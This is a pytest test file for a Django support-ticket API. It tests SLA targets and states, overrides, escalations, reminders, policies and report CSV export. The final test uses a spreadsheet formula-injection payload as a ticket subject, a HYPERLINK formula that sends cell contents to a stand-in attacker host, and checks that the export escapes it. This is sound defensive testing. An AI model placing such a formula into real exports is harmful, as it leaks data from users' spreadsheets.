import csv
import datetime as dt
import io
from unittest import mock

import pytest
from django.utils import timezone

from support.models import Ticket, TicketEscalation
from support.models.choices import Priority
from support.monitor import run_monitor

from .factories import make_ticket

pytestmark = pytest.mark.django_db
API = "/api/v1/support"


def sla_url(ticket, what="sla"):
    return f"{API}/tickets/{ticket.pk}/{what}/"


def test_sla_shows_targets_due_times_elapsed_and_state(api_client, customer, agent):
    created = timezone.now() - dt.timedelta(minutes=10)
    ticket = make_ticket(by=customer, priority=Priority.HIGH, created_at=created)
    api_client.force_authenticate(agent)
    body = api_client.get(sla_url(ticket)).json()
    assert body["state"] == "on_track"
    assert body["first_response"]["target_minutes"] == 60
    assert body["resolution"]["target_minutes"] == 480
    assert 9.9 <= body["first_response"]["elapsed_minutes"] <= 11
    assert 49 <= body["first_response"]["remaining_minutes"] <= 50.1
    assert body["first_response"]["due_at"].startswith(
        (created + dt.timedelta(minutes=60)).strftime("%Y-%m-%dT%H:%M")
    )


def test_sla_states_follow_the_clock(api_client, customer, agent):
    now = timezone.now()
    at_risk = make_ticket(
        by=customer, priority=Priority.HIGH, created_at=now - dt.timedelta(minutes=50)
    )
    breached = make_ticket(
        by=customer, priority=Priority.HIGH, created_at=now - dt.timedelta(minutes=70)
    )
    api_client.force_authenticate(agent)
    assert api_client.get(sla_url(at_risk)).json()["state"] == "at_risk"
    assert api_client.get(sla_url(breached)).json()["state"] == "breached"
    listed = api_client.get(f"{API}/tickets/?sla_state=breached").json()["results"]
    assert [t["number"] for t in listed] == [breached.number]


def test_customers_cannot_read_sla_internals(api_client, customer):
    ticket = make_ticket(by=customer)
    api_client.force_authenticate(customer)
    assert api_client.get(sla_url(ticket)).status_code == 403


def test_lead_overrides_targets_and_it_is_audited(api_client, customer, lead):
    ticket = make_ticket(by=customer, priority=Priority.MEDIUM)
    api_client.force_authenticate(lead)
    response = api_client.patch(
        sla_url(ticket),
        {"first_response_minutes": 30, "resolution_minutes": 120, "reason": "VIP launch"},
        format="json",
    )
    assert response.status_code == 200, response.json()
    body = response.json()
    assert body["first_response"]["target_minutes"] == 30
    assert body["override"]["reason"] == "VIP launch"
    ticket.refresh_from_db()
    assert ticket.first_response_due_at == ticket.created_at + dt.timedelta(minutes=30)
    event = ticket.events.get(kind="sla_changed")
    assert event.actor == lead
    assert event.before["first_response_minutes"] == 240
    assert event.after["first_response_minutes"] == 30
    # A later priority change keeps the lead's targets.
    api_client.patch(sla_url(ticket), {"priority": "low", "reason": "calmer"}, format="json")
    ticket.refresh_from_db()
    assert (ticket.priority, ticket.response_target_minutes) == ("low", 30)


def test_priority_change_recomputes_from_the_start(api_client, customer, lead):
    created = timezone.now() - dt.timedelta(minutes=30)
    ticket = make_ticket(by=customer, priority=Priority.LOW, created_at=created)
    api_client.force_authenticate(lead)
    api_client.patch(sla_url(ticket), {"priority": "urgent", "reason": "outage"}, format="json")
    ticket.refresh_from_db()
    assert ticket.first_response_due_at == created + dt.timedelta(minutes=15)
    assert ticket.resolution_due_at == created + dt.timedelta(minutes=240)


def test_override_needs_a_lead_and_a_reason(api_client, customer, agent, lead):
    ticket = make_ticket(by=customer)
    api_client.force_authenticate(agent)
    assert (
        api_client.patch(
            sla_url(ticket), {"priority": "low", "reason": "x"}, format="json"
        ).status_code
        == 403
    )
    api_client.force_authenticate(lead)
    response = api_client.patch(sla_url(ticket), {"priority": "low"}, format="json")
    assert response.status_code == 400
    assert "reason" in response.json()["errors"]
    assert Ticket.objects.get(pk=ticket.pk).priority == "medium"


def test_manual_escalation_goes_one_level_up_and_is_kept(api_client, customer, agent):
    ticket = make_ticket(by=customer)
    api_client.force_authenticate(agent)
    response = api_client.post(
        sla_url(ticket, "escalate"), {"reason": "Customer is furious"}, format="json"
    )
    assert response.status_code == 201
    assert response.json()["level"] == 1
    api_client.post(sla_url(ticket, "escalate"), {"reason": "Still nothing"}, format="json")
    history = api_client.get(sla_url(ticket, "escalations")).json()
    assert [e["level"] for e in history] == [1, 2]
    assert history[0]["source"] == "manual" and history[0]["actor"]["id"] == agent.pk
    assert Ticket.objects.get(pk=ticket.pk).escalation_level == 2
    assert api_client.post(sla_url(ticket, "escalate"), {}, format="json").status_code == 400


def test_reminders_are_rate_limited_per_ticket_and_target(api_client, customer, agent):
    ticket = make_ticket(by=customer)
    api_client.force_authenticate(agent)
    api_client.post(f"{API}/tickets/{ticket.pk}/claim/")
    assert (
        api_client.post(
            sla_url(ticket, "remind"), {"target": "assignee"}, format="json"
        ).status_code
        == 202
    )
    again = api_client.post(sla_url(ticket, "remind"), {"target": "assignee"}, format="json")
    assert again.status_code == 409
    assert again.json()["code"] == "reminder_rate_limited"
    assert (
        api_client.post(
            sla_url(ticket, "remind"), {"target": "customer"}, format="json"
        ).status_code
        == 202
    )
    later = timezone.now() + dt.timedelta(minutes=31)
    with mock.patch("django.utils.timezone.now", return_value=later):
        assert (
            api_client.post(
                sla_url(ticket, "remind"), {"target": "assignee"}, format="json"
            ).status_code
            == 202
        )


def test_sla_report_with_compliance_times_and_breaches(api_client, customer, agent):
    from support.services import add_message, resolve_ticket

    now = timezone.now()
    fast = make_ticket(by=customer, priority=Priority.HIGH, created_at=now - dt.timedelta(hours=3))
    with mock.patch(
        "django.utils.timezone.now", return_value=fast.created_at + dt.timedelta(minutes=10)
    ):
        add_message(ticket=fast, by=agent, body="Hi")
        resolve_ticket(ticket=Ticket.objects.get(pk=fast.pk), by=agent)
    slow = make_ticket(
        by=customer, priority=Priority.URGENT, created_at=now - dt.timedelta(hours=2)
    )
    run_monitor(now=now)
    api_client.force_authenticate(agent)
    today = timezone.localdate()
    params = f"start_date={today - dt.timedelta(days=1)}&end_date={today}"
    report = api_client.get(f"{API}/sla-reports/?{params}").json()
    assert report["overall"]["tickets"] == 2
    assert report["overall"]["breached"] == 1
    assert report["overall"]["compliance_rate"] == 0.5
    assert report["by_priority"]["high"]["first_response_minutes"]["median"] == 10
    assert report["by_priority"]["high"]["compliance_rate"] == 1
    breach_tickets = {b["ticket"] for b in report["breaches"]}
    assert breach_tickets == {slow.number}
    csv_response = api_client.get(f"{API}/sla-reports/?{params}&export=csv")
    assert csv_response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(csv_response.content.decode())))
    assert rows[0][0] == "ticket" and rows[1][0] == slow.number


def test_report_range_is_validated(api_client, agent):
    api_client.force_authenticate(agent)
    response = api_client.get(f"{API}/sla-reports/?start_date=2026-05-01&end_date=2026-04-01")
    assert response.status_code == 400
    assert "end_date" in response.json()["errors"]


def test_sla_policies_leads_write_agents_read(api_client, agent, lead):
    api_client.force_authenticate(agent)
    assert api_client.get(f"{API}/sla-policies/").status_code == 200
    payload = {
        "name": "Enterprise high",
        "priority": "high",
        "customer_tier": "enterprise",
        "first_response_minutes": 30,
        "resolution_minutes": 240,
    }
    assert api_client.post(f"{API}/sla-policies/", payload, format="json").status_code == 403
    api_client.force_authenticate(lead)
    assert api_client.post(f"{API}/sla-policies/", payload, format="json").status_code == 201
    duplicate = api_client.post(f"{API}/sla-policies/", payload, format="json")
    assert duplicate.status_code == 400


def test_most_specific_policy_applies(api_client, lead, organization):
    from core.models.users import CustomerTier
    from support.models import SLAPolicy

    from ..factories import UserFactory

    organization.tier = CustomerTier.ENTERPRISE
    organization.save()
    SLAPolicy.objects.create(
        name="Ent high",
        priority="high",
        customer_tier="enterprise",
        first_response_minutes=20,
        resolution_minutes=100,
    )
    enterprise_customer = UserFactory(roles=["customer"], organization=organization)
    other = UserFactory(roles=["customer"])
    assert make_ticket(by=enterprise_customer, priority="high").response_target_minutes == 20
    assert make_ticket(by=other, priority="high").response_target_minutes == 60


def test_escalation_policy_with_levels(api_client, lead):
    api_client.force_authenticate(lead)
    payload = {
        "name": "Default",
        "levels": [
            {"level": 1, "trigger": "warning", "notify_emails": "oncall@example.com"},
            {"level": 2, "trigger": "breach", "delay_minutes": 30, "raise_priority": True},
        ],
    }
    response = api_client.post(f"{API}/escalation-policies/", payload, format="json")
    assert response.status_code == 201, response.json()
    assert [lv["level"] for lv in response.json()["levels"]] == [1, 2]
    gap = {"name": "Gap", "levels": [{"level": 2}]}
    assert api_client.post(f"{API}/escalation-policies/", gap, format="json").status_code == 400
    assert not TicketEscalation.objects.exists()


def test_the_report_csv_never_hands_a_spreadsheet_a_formula(api_client, customer, agent):
    now = timezone.now()
    make_ticket(
        by=customer,
        priority=Priority.URGENT,
        subject='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        created_at=now - dt.timedelta(hours=2),
    )
    run_monitor(now=now)
    api_client.force_authenticate(agent)
    today = timezone.localdate()
    params = f"start_date={today - dt.timedelta(days=1)}&end_date={today}&export=csv"
    rows = list(
        csv.reader(io.StringIO(api_client.get(f"{API}/sla-reports/?{params}").content.decode()))
    )
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
